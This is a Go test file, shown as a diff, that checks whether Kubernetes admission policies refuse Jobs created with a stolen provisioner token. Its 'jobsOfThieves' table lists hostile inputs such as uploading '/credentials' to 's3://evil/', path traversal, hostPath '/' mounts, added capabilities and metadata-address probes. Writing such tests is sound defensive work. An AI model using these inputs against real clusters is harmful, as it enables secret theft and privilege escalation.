@@ -1,0 +1,278 @@
+//go:build cluster
+
+package dataset_test
+
+import (
+	"maps"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+	batchv1 "k8s.io/api/batch/v1"
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/api/resource"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/rest"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/flexlvm/flexlvm/test/await"
+)
+
+// stolen is what somebody speaks to the API with who has the provisioner's token.
+func (k *kubelets) stolen(t *testing.T) client.Client {
+	t.Helper()
+	config := rest.CopyConfig(k.config)
+	config.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + system + ":" + account}
+	stolen, err := client.New(config, client.Options{Scheme: k.client.Scheme()})
+	require.NoError(t, err)
+	return stolen
+}
+
+// rich is a volume whose loader has all that a loader can have.
+const rich = `{id: a, replicas: 1, sourceType: S3, accessMode: ReadWriteOnce, capacity: 5Gi, labels: {k: v},
+    options: {awsCredentialsSecretName: s, caConfigMap: ca, serviceAccountName: loader, sourceURL: "s3://b/p/", timeoutForDataDownload: 1h, stream: "true"},
+    nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: sim, operator: Exists}]}]}},
+    tolerations: [{key: gpu, operator: Exists, value: "", effect: NoSchedule}]}`
+
+// loader is the Job that the controller has made, as it could be made again.
+func (s *space) loader(name string) *batchv1.Job {
+	s.t.Helper()
+	var job *batchv1.Job
+	await.Until(s.t, longest, func() string {
+		job = &batchv1.Job{}
+		err := s.client.Get(s.t.Context(), s.key(name), job)
+		return await.Missing(err == nil, "no Job: %v\n%s", err, s.what())
+	})
+	m := job.ObjectMeta
+	job.ObjectMeta = metav1.ObjectMeta{Namespace: m.Namespace, Name: m.Name, Labels: m.Labels, Annotations: m.Annotations, OwnerReferences: m.OwnerReferences}
+	job.Status, job.Spec.Selector, job.Spec.Template.Labels = batchv1.JobStatus{}, nil, maps.Clone(m.Labels)
+	return job
+}
+
+// testLoaderPolicies: the provisioner's token is good for the Jobs that the controller
+// makes, and for no others.
+func (k *kubelets) testLoaderPolicies(t *testing.T) {
+	stolen, ctx, s := k.stolen(t), t.Context(), k.namespace(t, "loaders")
+	require.NoError(t, k.client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: s.name, Name: "loader"}}))
+	s.play(s.name, func(*corev1.Pod) *corev1.PodStatus { return running(corev1.ConditionFalse) })
+	s.make("v", rich)
+	made := s.loader("v-a-0")
+	try := func(change func(*batchv1.Job)) error {
+		job := made.DeepCopy()
+		change(job)
+		return stolen.Create(ctx, job, client.DryRunAll)
+	}
+	// It is there already, and would be let in.
+	err := try(func(*batchv1.Job) {})
+	require.True(t, apierrors.IsAlreadyExists(err), "%v", err)
+	require.NoError(t, try(upload))
+	require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9") }))
+
+	for message, changes := range jobsOfThieves {
+		for name, change := range changes {
+			// What several policies refuse, any of them may answer.
+			if err := try(change); err == nil || !strings.Contains(err.Error(), "'provisioner-loaders.flexlvm.io'") {
+				require.ErrorContains(t, err, message, name)
+			}
+		}
+	}
+	// Claims that are there already, and were made for somebody else.
+	for _, number := range []string{"7", "8"} {
+		name := "v-a-" + number
+		claim := &corev1.PersistentVolumeClaim{
+			ObjectMeta: metav1.ObjectMeta{Namespace: s.name, Name: name},
+			Spec:       corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}, Resources: s.claimSize("1Gi"), StorageClassName: ptr("none")},
+		}
+		if number == "8" {
+			claim.Labels = map[string]string{"flexlvm.io/volumemanager": made.Labels["flexlvm.io/volumemanager"], "flexlvm.io/dataset": "0123456789abcdef"}
+		}
+		require.NoError(t, k.client.Create(ctx, claim))
+		await.Until(t, longest, func() string {
+			err := try(func(j *batchv1.Job) { ofReplica(j, "v-a", number) })
+			return await.Missing(err != nil, "the claim %s may be mounted", name)
+		})
+		err := try(func(j *batchv1.Job) { ofReplica(j, "v-a", number) })
+		require.ErrorContains(t, err, "may only create Jobs that mount claims of their own dataset")
+	}
+	// Where nobody asks for datasets, nobody loads any.
+	other := k.namespace(t, "loaders-none")
+	require.ErrorContains(t, try(func(j *batchv1.Job) { j.Namespace = other.name }), "no params found")
+	for _, namespace := range []string{metav1.NamespaceSystem, system} {
+		require.ErrorContains(t, try(func(j *batchv1.Job) { j.Namespace = namespace }), "ValidatingAdmissionPolicy", namespace)
+	}
+
+	others := made.DeepCopy()
+	others.Name, others.OwnerReferences, others.Labels = "others", nil, nil
+	require.NoError(t, k.client.Create(ctx, others))
+	require.ErrorContains(t, stolen.Delete(ctx, others), "may only create and delete Jobs that a VolumeManager owns")
+	k.kubectl(t, "delete", "job", "others", "-n", s.name)
+	k.kubectl(t, "delete", "pvc", "v-a-7", "v-a-8", "-n", s.name)
+	s.remove(s.get("v"))
+	s.nothingLeft()
+}
+
+// upload makes a loader one that uploads.
+func upload(j *batchv1.Job) {
+	j.Name, j.Labels["flexlvm.io/role"] = "v-a-put", "put"
+	pod := &j.Spec.Template.Spec
+	pod.Affinity = nil
+	pod.Containers[0].Args = []string{"put", "--progress=json", "--", "/data", "s3://b/out/"}
+}
+
+// ofReplica makes a loader that of another replica, whose claim need not be there.
+func ofReplica(j *batchv1.Job, base, number string) {
+	j.Name, j.Labels["flexlvm.io/replica"] = base+"-"+number, number
+	podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = j.Name
+}
+
+func podOf(j *batchv1.Job) *corev1.PodSpec         { return &j.Spec.Template.Spec }
+func containerOf(j *batchv1.Job) *corev1.Container { return &j.Spec.Template.Spec.Containers[0] }
+
+func args(words ...string) func(*batchv1.Job) {
+	return func(j *batchv1.Job) { containerOf(j).Args = words }
+}
+
+// jobsOfThieves are Jobs that no controller makes, by what is said of them.
+var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
+	"that a VolumeManager owns": {
+		"no owner": func(j *batchv1.Job) { j.OwnerReferences = nil },
+		"no label": func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); delete(j.Labels, "flexlvm.io/volumemanager") },
+	},
+	"that a VolumeManager alone owns": {
+		"another owner": func(j *batchv1.Job) {
+			j.OwnerReferences = append(j.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ServiceAccount", Name: "default", UID: "uid"})
+		},
+		"unknown version": func(j *batchv1.Job) { j.OwnerReferences[0].APIVersion = "flexlvm.io/v9" },
+		"another label":   func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); j.Labels["flexlvm.io/volumemanager"] = "other" },
+		"no dataset":      func(j *batchv1.Job) { delete(j.Labels, "flexlvm.io/dataset") },
+		"finalizer":       func(j *batchv1.Job) { j.Finalizers = []string{"example.org/stay"} },
+	},
+	"of VolumeManagers that are there": {
+		"another UID": func(j *batchv1.Job) {
+			ofReplica(j, "v-a", "9")
+			j.OwnerReferences[0].UID, j.Labels["flexlvm.io/volumemanager"] = "other", "other"
+		},
+		"another name": func(j *batchv1.Job) { ofReplica(j, "w-a", "9"); j.OwnerReferences[0].Name = "w" },
+	},
+	"that their volume names in VolumeManager v": {
+		"volume":          func(j *batchv1.Job) { ofReplica(j, "v-b", "9"); j.Annotations["flexlvm.io/volume-id"] = "b" },
+		"service account": func(j *batchv1.Job) { podOf(j).ServiceAccountName, podOf(j).DeprecatedServiceAccount = "default", "" },
+		"secret":          func(j *batchv1.Job) { podOf(j).Volumes[1].Secret.SecretName = "theirs" },
+		"authority":       func(j *batchv1.Job) { podOf(j).Volumes[2].ConfigMap.Name = "theirs" },
+		"toleration": func(j *batchv1.Job) {
+			podOf(j).Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
+		},
+	},
+	"their loader does not need": {
+		"priority class": func(j *batchv1.Job) { podOf(j).PriorityClassName = "system-node-critical" },
+		"priority":       func(j *batchv1.Job) { podOf(j).Priority = ptr(int32(2000001000)) },
+		"runtime class":  func(j *batchv1.Job) { podOf(j).RuntimeClassName = ptr("bare") },
+		"resource claims": func(j *batchv1.Job) {
+			podOf(j).ResourceClaims = []corev1.PodResourceClaim{{Name: "gpu", ResourceClaimName: ptr("gpu")}}
+		},
+		"host network":  func(j *batchv1.Job) { podOf(j).HostNetwork = true },
+		"host PIDs":     func(j *batchv1.Job) { podOf(j).HostPID = true },
+		"host users":    func(j *batchv1.Job) { podOf(j).HostUsers = ptr(true) },
+		"node":          func(j *batchv1.Job) { podOf(j).NodeName = nodes[0] },
+		"node selector": func(j *batchv1.Job) { podOf(j).NodeSelector = map[string]string{"a": "b"} },
+		"pull secret":   func(j *batchv1.Job) { podOf(j).ImagePullSecrets = []corev1.LocalObjectReference{{Name: "theirs"}} },
+		"host alias": func(j *batchv1.Job) {
+			podOf(j).HostAliases = []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{"s3"}}}
+		},
+		"init container": func(j *batchv1.Job) { podOf(j).InitContainers = []corev1.Container{{Name: "i", Image: "i"}} },
+		"environment":    func(j *batchv1.Job) { containerOf(j).Env = []corev1.EnvVar{{Name: "A", Value: "b"}} },
+		"hook": func(j *batchv1.Job) {
+			containerOf(j).Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
+		},
+		"probe": func(j *batchv1.Job) {
+			containerOf(j).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
+		},
+		"device": func(j *batchv1.Job) {
+			containerOf(j).Resources.Limits = corev1.ResourceList{"example.org/device": resource.MustParse("1")}
+		},
+		"annotation":   func(j *batchv1.Job) { j.Spec.Template.Annotations["k8s.v1.cni.cncf.io/networks"] = "host" },
+		"finalizer":    func(j *batchv1.Job) { j.Spec.Template.Finalizers = []string{"example.org/stay"} },
+		"manager":      func(j *batchv1.Job) { j.Spec.ManagedBy = ptr("example.org/manager") },
+		"time to live": func(j *batchv1.Job) { j.Spec.TTLSecondsAfterFinished = ptr(int32(1)) },
+	},
+	"load or upload a dataset: /fetch": {
+		"image":   func(j *batchv1.Job) { containerOf(j).Image = "example.org/evil" },
+		"command": func(j *batchv1.Job) { containerOf(j).Command = []string{"/bin/sh"} },
+		"two containers": func(j *batchv1.Job) {
+			podOf(j).Containers = append(podOf(j).Containers, corev1.Container{Name: "d", Image: "i"})
+		},
+		"secret upload":  args("put", "--", "/credentials", "s3://evil/"),
+		"secret as data": args("--", "/credentials", "/data"),
+		"way out":        args("put", "--", "/data/../credentials", "s3://evil/"),
+		"mixed up":       args("put", "/credentials", "--", "/data", "s3://evil/"),
+		"another verb":   args("help"),
+	},
+	"mount the one claim of their replica": {
+		"path": func(j *batchv1.Job) {
+			podOf(j).Volumes[1].VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}
+		},
+		"token": func(j *batchv1.Job) {
+			podOf(j).Volumes[1].VolumeSource = corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
+				{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}},
+			}}}
+		},
+		"another claim":  func(j *batchv1.Job) { podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = "data-web-0" },
+		"another number": func(j *batchv1.Job) { podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = "v-a-1" },
+		"another name":   func(j *batchv1.Job) { j.Name = "j" },
+		"another volume": func(j *batchv1.Job) { j.Annotations["flexlvm.io/volume-id"] = "b" },
+		"no claim": func(j *batchv1.Job) {
+			podOf(j).Volumes[0].PersistentVolumeClaim = nil
+			podOf(j).Volumes[0].ConfigMap = &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "ca"}}
+		},
+		"another Secret": func(j *batchv1.Job) {
+			podOf(j).Volumes = append(podOf(j).Volumes, corev1.Volume{Name: "x", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "s"}}})
+		},
+		"Secret as data": func(j *batchv1.Job) {
+			mounts := containerOf(j).VolumeMounts
+			mounts[0].MountPath, mounts[1].MountPath = mounts[1].MountPath, mounts[0].MountPath
+		},
+		"Secret in data": func(j *batchv1.Job) { containerOf(j).VolumeMounts[1].MountPath = "/data/s" },
+		"mount that leaks": func(j *batchv1.Job) {
+			containerOf(j).VolumeMounts[0].MountPropagation = ptr(corev1.MountPropagationHostToContainer)
+		},
+	},
+	"run as nobody": {
+		"root":           func(j *batchv1.Job) { podOf(j).SecurityContext = nil },
+		"user":           func(j *batchv1.Job) { podOf(j).SecurityContext.RunAsUser = nil },
+		"group 0":        func(j *batchv1.Job) { podOf(j).SecurityContext.RunAsGroup = ptr(int64(0)) },
+		"no group":       func(j *batchv1.Job) { podOf(j).SecurityContext.RunAsGroup = nil },
+		"group of files": func(j *batchv1.Job) { podOf(j).SecurityContext.FSGroup = ptr(int64(0)) },
+		"further groups": func(j *batchv1.Job) { podOf(j).SecurityContext.SupplementalGroups = []int64{0} },
+		"sysctl": func(j *batchv1.Job) {
+			podOf(j).SecurityContext.Sysctls = []corev1.Sysctl{{Name: "kernel.msgmax", Value: "1"}}
+		},
+		"seccomp":          func(j *batchv1.Job) { podOf(j).SecurityContext.SeccompProfile = nil },
+		"container's user": func(j *batchv1.Job) { containerOf(j).SecurityContext.RunAsUser = ptr(int64(0)) },
+		"container's seccomp": func(j *batchv1.Job) {
+			containerOf(j).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+		},
+		"capability": func(j *batchv1.Job) {
+			containerOf(j).SecurityContext.Capabilities.Add = []corev1.Capability{"SYS_MODULE"}
+		},
+		"capabilities": func(j *batchv1.Job) { containerOf(j).SecurityContext.Capabilities = nil },
+		"file system":  func(j *batchv1.Job) { containerOf(j).SecurityContext.ReadOnlyRootFilesystem = nil },
+		"token":        func(j *batchv1.Job) { podOf(j).AutomountServiceAccountToken = nil },
+		"port":         func(j *batchv1.Job) { containerOf(j).Ports[0].HostPort = containerOf(j).Ports[0].ContainerPort },
+		"probe":        func(j *batchv1.Job) { containerOf(j).ReadinessProbe.HTTPGet.Host = "169.254.169.254" },
+		"command": func(j *batchv1.Job) {
+			containerOf(j).ReadinessProbe.ProbeHandler = corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}
+		},
+	},
+	"which the default scheduler places": {
+		"many":      func(j *batchv1.Job) { j.Spec.Parallelism, j.Spec.Completions = ptr(int32(9)), ptr(int32(9)) },
+		"scheduler": func(j *batchv1.Job) { podOf(j).SchedulerName = "mine" },
+		"long end":  func(j *batchv1.Job) { podOf(j).TerminationGracePeriodSeconds = ptr(int64(time.Hour / time.Second)) },
+		"resolver":  func(j *batchv1.Job) { podOf(j).DNSPolicy = corev1.DNSDefault },
+		"with whom": func(j *batchv1.Job) { podOf(j).Affinity.PodAffinity = &corev1.PodAffinity{} },
+		"alone": func(j *batchv1.Job) {
+			podOf(j).Affinity.PodAntiAffinity.RequiredDuringSchedulingIgnoredDuringExecution[0].NamespaceSelector = &metav1.LabelSelector{}
+		},
+	},
+}
